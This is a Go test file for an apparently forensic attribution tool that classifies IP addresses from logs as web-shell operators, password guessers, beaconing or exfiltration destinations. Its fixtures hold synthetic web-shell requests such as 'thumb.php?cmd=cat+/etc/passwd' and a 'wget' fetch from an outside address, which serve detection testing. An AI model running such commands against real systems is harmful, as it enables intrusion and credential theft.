package attrib

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/casefile/casefile/enrich"
	"github.com/casefile/casefile/evidence/parse"
	"github.com/casefile/casefile/evidence/sampledata"
	"github.com/casefile/casefile/graph/sigma"
)

// webShellCase: a rented server drives a web shell (issue 12's
// thumb.php?cmd=cat+/etc/passwd, 200 responses); a visitor reads pages.
func webShellCase() *caseBuilder {
	c := newCase()
	for i, q := range []string{"cat+/etc/passwd", "id", "uname+-a", "ls+-la+/var/www", "wget+http://91.203.5.9/x"} {
		e := c.ev(artWeb, t0.Add(time.Duration(i)*time.Minute), parse.KindHTTP, parse.OutcomeSuccess, "91.203.5.20", "",
			"path", "/wp-content/uploads/thumb.php?cmd="+q, "status", "200", "user_agent", "Mozilla/5.0")
		e.Action, e.DstPort, e.Citation.Parser = "GET", 443, "apache-access/1"
	}
	e := c.ev(artWeb, t0, parse.KindHTTP, parse.OutcomeSuccess, "80.90.11.77", "", "path", "/blog/", "status", "200", "user_agent", "Mozilla/5.0")
	e.Action, e.Citation.Parser = "GET", "apache-access/1"
	c.obs("91.203.5.20", "GeoIP2-Anonymous-IP", enrich.TypeMMDB, dsMMDB, t0.Add(-72*time.Hour), map[string]any{"is_hosting_provider": true})
	return c
}

func TestWebShellIsNotBenignUse(t *testing.T) {
	c := webShellCase()
	res, err := Assess(nil, c.in, nil)
	if err != nil {
		t.Fatal(err)
	}
	s := find(t, res, "91.203.5.20")
	if factorOf(s, "benign-use") != nil {
		t.Errorf("web-shell operator counted as benign use: %+v", s.Factors)
	}
	f := factorOf(s, "hands-on")
	if f == nil {
		t.Fatalf("no hands-on factor: %+v", s.Factors)
	}
	if f.EvidenceN != 5 || len(f.Evidence) != 5 || !strings.HasPrefix(f.Evidence[0], artWeb+"#L") {
		t.Errorf("hands-on cites %d %v", f.EvidenceN, f.Evidence)
	}
	if len(f.Rules) == 0 || f.Rules[0].ID != "casefile-web-shell-command" || f.Rules[0].Level != "critical" ||
		!slices.Contains(f.Rules[0].Tags, "attack.t1505.003") || f.Rules[0].Events != 5 {
		t.Errorf("rules %+v", f.Rules)
	}
	if f.Nats.Get(Perpetrator) <= 0 || s.Role != Perpetrator {
		t.Errorf("role %s (%v), hands-on nats %v", s.Role, s.Hypotheses, f.Nats)
	}
	if v := find(t, res, "80.90.11.77"); factorOf(v, "hands-on") != nil || factorOf(v, "benign-use") == nil {
		t.Errorf("the visitor: %+v", v.Factors)
	}
	if res.Rules != sigma.BuiltinName || res.RulesDigest != sigma.Builtin().Digest() {
		t.Errorf("rule set %s %s", res.Rules, res.RulesDigest)
	}
}

func TestSuccessAfterFailuresNamesTheAccount(t *testing.T) {
	c := newCase()
	for i := range 6 {
		c.ev(artSSH, t0.Add(time.Duration(i)*time.Second), parse.KindAuth, parse.OutcomeFailure, "62.210.40.50", "deploy")
	}
	c.ev(artSSH, t0.Add(10*time.Second), parse.KindAuth, parse.OutcomeSuccess, "62.210.40.50", "deploy")
	res, err := Assess(nil, c.in, nil)
	if err != nil {
		t.Fatal(err)
	}
	s := find(t, res, "62.210.40.50")
	f := factorOf(s, "success-after-failures")
	if f == nil || !strings.Contains(f.Text, `account "deploy"`) || factorOf(s, "password-guessing") == nil {
		t.Fatalf("factors %+v", s.Factors)
	}
}

func TestBeaconingIsTheDestinations(t *testing.T) {
	c := newCase()
	for i := range 12 {
		e := c.ev(artIDS, t0.Add(time.Duration(i)*5*time.Minute+time.Duration(i%2)*time.Second), parse.KindFlow, parse.OutcomeUnknown, "10.0.0.8", "")
		e.Dst, e.DstPort, e.Citation.Parser = "151.80.13.99", 443, "zeek/1"
	}
	res, err := Assess(nil, c.in, nil)
	if err != nil {
		t.Fatal(err)
	}
	d := find(t, res, "151.80.13.99")
	f := factorOf(d, "beaconing")
	if f == nil || !strings.Contains(f.Text, "12 regular contacts about every 5m") || f.EvidenceN != 12 {
		t.Fatalf("destination factors %+v", d.Factors)
	}
	for _, s := range res.Sources {
		if s.Indicator == "10.0.0.8" && factorOf(&s, "beaconing") != nil {
			t.Error("the victim host got the beaconing factor")
		}
	}
}

func TestUserRulesAndDigest(t *testing.T) {
	dir := t.TempDir()
	rule := "title: Admin panel from outside\nid: acme-admin\nlevel: high\ntags: [attack.t1190]\nlogsource:\n  category: webserver\n" +
		"detection:\n  s:\n    path|startswith: /blog\n  condition: s\n"
	if err := os.WriteFile(filepath.Join(dir, "acme.yml"), []byte(rule), 0o644); err != nil {
		t.Fatal(err)
	}
	u, err := sigma.LoadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	eng, err := sigma.Builtin().Join(u)
	if err != nil {
		t.Fatal(err)
	}
	c := webShellCase()
	c.in.Rules = eng
	res, err := Assess(nil, c.in, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.RulesDigest == sigma.Builtin().Digest() || !strings.Contains(res.Rules, dir) {
		t.Errorf("rule set %s %s", res.Rules, res.RulesDigest)
	}
	f := factorOf(find(t, res, "80.90.11.77"), "web-attack")
	if f == nil || f.Rules[0].ID != "acme-admin" || f.Rules[0].File != filepath.Join(dir, "acme.yml") {
		t.Fatalf("user rule: %+v", f)
	}
}

type sliceSink struct{ evs []parse.Event }

func (s *sliceSink) Event(e parse.Event) error { s.evs = append(s.evs, e); return nil }
func (s *sliceSink) Malformed(parse.Malformed) {}

// realEvents parses the logs the realcase script ingests.
func realEvents(t *testing.T) []parse.Event {
	t.Helper()
	root := sampledata.Path(t)
	var files []string
	for _, g := range []string{"loghub/OpenSSH/OpenSSH_2k.log", "loghub/Linux/Linux_2k.log", "loghub/Apache/Apache_2k.log",
		"elastic-examples-apache-access/apache_logs", "suricata-eve-surevego/eve.json",
		"zeek-wrccdc2018-brimdata/conn-sample-from-brimdata-zed.log", "zeek-wrccdc2018-brimdata/zeek-json/*.json",
		"zeek-wrccdc2018-brimdata/zeek-json/rdp.json.gz", "evtx-attack-samples/*.evtx", "zeek-testsuite/ssh/ssh.pcap",
		"zeek-testsuite/ftp-bruteforce/bruteforce.pcap", "cloudtrail/awsdocs-iam-user-guide/awsdocs-examples.Records.json"} {
		m, _ := filepath.Glob(filepath.Join(root, g))
		if len(m) == 0 {
			t.Skipf("SKIPPED: sample %s missing", g)
		}
		files = append(files, m...)
	}
	var s sliceSink
	for _, p := range files {
		f, err := os.Open(p)
		if err != nil {
			t.Fatal(err)
		}
		_, err = parse.Run(f, "", parse.Options{Artefact: "sha256:" + filepath.Base(p), Name: filepath.Base(p), Year: 2024}, &s)
		f.Close()
		if err != nil {
			t.Fatalf("%s: %v", p, err)
		}
	}
	return s.evs
}

// hostile: a failed login, an IDS alert of severity 1–2 or a Zeek notice,
// or a connection left unanswered or refused.
func hostile(e *parse.Event) bool {
	switch {
	case e.Outcome == parse.OutcomeFailure && (e.Kind == parse.KindAuth || e.Kind == parse.KindAPI):
		return true
	case e.Kind == parse.KindAlert:
		return e.Fields["severity"] == "" || e.Fields["severity"] == "1" || e.Fields["severity"] == "2"
	}
	return rejectedStates[e.Fields["conn_state"]]
}

// TestRealCaseBehaviour: issue 12's targets on the real samples — every
// source with 10 or more hostile events has a behaviour factor, every
// factor cites evidence, and 183.62.140.253 (286 failed root passwords)
// is a password guesser.
func TestRealCaseBehaviour(t *testing.T) {
	evs := realEvents(t)
	res, err := Assess(nil, Input{Events: evs}, nil)
	if err != nil {
		t.Fatal(err)
	}
	n := map[string]int{}
	for i := range evs {
		if hostile(&evs[i]) && evs[i].Src != "" {
			n[evs[i].Src]++
		}
	}
	checked := 0
	for _, s := range res.Sources {
		behaviour := false
		for _, f := range s.Factors {
			if slices.Contains(behaviourFactors, slices.Index(factorOrder[:], f.ID)) && f.ID != "other-detection" {
				behaviour = true
			}
			if len(f.Evidence) == 0 && strings.HasPrefix(f.Source, "Sigma") {
				t.Errorf("%s: %s cites nothing", s.Indicator, f.ID)
			}
		}
		if !IsRole(s.Role) && (s.Hypotheses != (RoleValues{}) || behaviour && !strings.Contains(s.Statement(), "(listed, not scored)")) {
			t.Errorf("%s (%s): scored, or behaviour not stated: %s", s.Indicator, s.Role, s.Statement())
		}
		if n[s.Indicator] >= 10 {
			checked++
			if !behaviour {
				t.Errorf("%s: %d hostile events, no behaviour factor (%d factors)", s.Indicator, n[s.Indicator], len(s.Factors))
			}
		}
	}
	if checked < 25 {
		t.Errorf("only %d sources with ≥ 10 hostile events", checked)
	}
	g := find(t, res, "183.62.140.253")
	f := factorOf(g, "password-guessing")
	if f == nil || f.EvidenceN != 286 || len(f.Rules) < 3 {
		t.Fatalf("183.62.140.253: %+v", f)
	}
	if st := g.Statement(); !strings.Contains(st, "What it did, as rules found it: password guessing") || strings.Contains(st, "benign noise") ||
		g.Probability < 0.45 && !strings.Contains(st, "the most probable, though no role is likely") ||
		!strings.HasPrefix(g.Recommendation, "Block it at your own perimeter: it acted against you") {
		t.Errorf("183.62.140.253: %s\n%s", st, g.Recommendation)
	}
	t.Logf("%d sources with ≥ 10 hostile events, each with a behaviour factor", checked)
}

// TestInternalBehaviourListedNotScored: an internal host that guesses
// passwords is lateral movement; it stays Internal, with its behaviour
// listed (rules, citations) and no nats or probabilities, and the
// statement says what it did.
func TestInternalBehaviourListedNotScored(t *testing.T) {
	c := newCase()
	for i := range 12 {
		c.ev(artSSH, t0.Add(time.Duration(i)*time.Second), parse.KindAuth, parse.OutcomeFailure, "10.20.0.9", fmt.Sprintf("user%d", i%4))
	}
	res, err := Assess(nil, c.in, nil)
	if err != nil {
		t.Fatal(err)
	}
	s := find(t, res, "10.20.0.9")
	if s.Role != Internal || s.Hypotheses != (RoleValues{}) || s.Probability != 0 {
		t.Fatalf("role %s %v %v", s.Role, s.Hypotheses, s.Probability)
	}
	f := factorOf(s, "password-guessing")
	if f == nil || len(f.Rules) == 0 || f.EvidenceN != 12 || len(f.Evidence) == 0 || !strings.HasPrefix(f.Evidence[0], artSSH+"#L") {
		t.Fatalf("factors %+v", s.Factors)
	}
	for _, f := range s.Factors {
		if f.Nats != (RoleValues{}) || f.Shadowed != (RoleValues{}) || f.Diagnostic {
			t.Errorf("%s scored: %+v", f.ID, f)
		}
	}
	st := s.Statement()
	if !strings.Contains(st, "What it did") || !strings.Contains(st, "password guessing") || !strings.Contains(st, f.Rules[0].ID) ||
		!strings.Contains(st, "lateral movement") {
		t.Errorf("statement: %s", st)
	}
	if c := find(t, res, "10.20.0.9"); slices.Contains(Roles(), c.Role) {
		t.Errorf("internal host given a role")
	}
}

// TestContactedBehaviourListed: a destination the victim's host sent a
// web-shell request to (outbound) stays a contacted destination with no
// block advice; the rule hit is listed and the statement does not claim
// nothing was seen.
func TestContactedBehaviourListed(t *testing.T) {
	c := newCase()
	e := c.ev(artWeb, t0, parse.KindHTTP, parse.OutcomeSuccess, "10.0.0.8", "", "path", "/x.php?cmd=id", "status", "200", "direction", "outbound")
	e.Action, e.Dst, e.DstPort, e.Citation.Parser = "GET", "91.203.5.44", 80, "apache-access/1"
	res, err := Assess(nil, c.in, nil)
	if err != nil {
		t.Fatal(err)
	}
	s := find(t, res, "91.203.5.44")
	if s.Role != Contacted || factorOf(s, "hands-on") == nil || strings.Contains(s.Recommendation, "Block") {
		t.Fatalf("%s %+v %s", s.Role, s.Factors, s.Recommendation)
	}
	if st := s.Statement(); strings.Contains(st+s.Recommendation, "nothing hostile") || !strings.Contains(st, "casefile-web-shell-command") {
		t.Errorf("statement: %s", st)
	}
}

// A destination whose traffic only matched non-diagnostic rules (policy
// alerts such as a package manager's user agent) still reads "nothing
// hostile seen", with the rule listed.
func TestContactedOtherDetectionOnly(t *testing.T) {
	s := Source{Indicator: "151.101.12.204", Role: Contacted, Events: 68, Factors: []Factor{{ID: "other-detection", N: fOtherDetection + 1,
		Rules: []RuleRef{{ID: "casefile-ids-other", Title: "IDS alert (other)", Events: 68}}}}}
	st := s.Statement()
	if !strings.Contains(st, "nothing hostile seen") || !strings.Contains(st, `other detections (rule "IDS alert (other)" (casefile-ids-other): 68 event(s))`) {
		t.Errorf("statement: %s", st)
	}
}

// An undetermined verdict below an even chance is still the most probable
// one; the statement must not read "undetermined unlikely".
func TestUndeterminedBelowEvenChance(t *testing.T) {
	s := Source{Indicator: "187.141.143.180", Role: Undetermined, Probability: 0.44, Words: Words(0.44),
		Factors: []Factor{{ID: "password-guessing", N: fPasswordGuessing + 1, Nats: RoleValues{0.9, 1.2}}}}
	st := s.Statement()
	if strings.Contains(st, "undetermined unlikely") || !strings.Contains(st, "undetermined at 44 %, the most probable, though no role is likely") {
		t.Errorf("statement: %s", st)
	}
}

// Volume out: one connection from a victim host that sent 100 MB or more
// to an outside address makes the destination judged (the attacker's
// channel out), not "contacted, nothing hostile seen"; a small one does
// not.
func TestVolumeOutIsTheDestinations(t *testing.T) {
	c := newCase()
	big := c.ev(artIDS, t0, parse.KindFlow, parse.OutcomeUnknown, "10.0.0.8", "", "orig_bytes", "734003200", "local_orig", "T", "local_resp", "F")
	big.Dst, big.DstPort, big.Citation.Parser = "151.80.13.77", 443, "zeek/1"
	small := c.ev(artIDS, t0.Add(time.Minute), parse.KindFlow, parse.OutcomeUnknown, "10.0.0.8", "", "orig_bytes", "52000", "local_orig", "T", "local_resp", "F")
	small.Dst, small.DstPort, small.Citation.Parser = "151.80.13.78", 443, "zeek/1"
	res, err := Assess(nil, c.in, nil)
	if err != nil {
		t.Fatal(err)
	}
	d := find(t, res, "151.80.13.77")
	f := factorOf(d, "c2-traffic")
	if f == nil || d.Role == Contacted || !slices.ContainsFunc(f.Rules, func(r RuleRef) bool { return r.ID == "casefile-net-volume-out" }) {
		t.Fatalf("%s %+v", d.Role, d.Factors)
	}
	if s := find(t, res, "151.80.13.78"); s.Role != Contacted || factorOf(s, "c2-traffic") != nil {
		t.Errorf("a 52 kB upload: %s %+v", s.Role, s.Factors)
	}
}
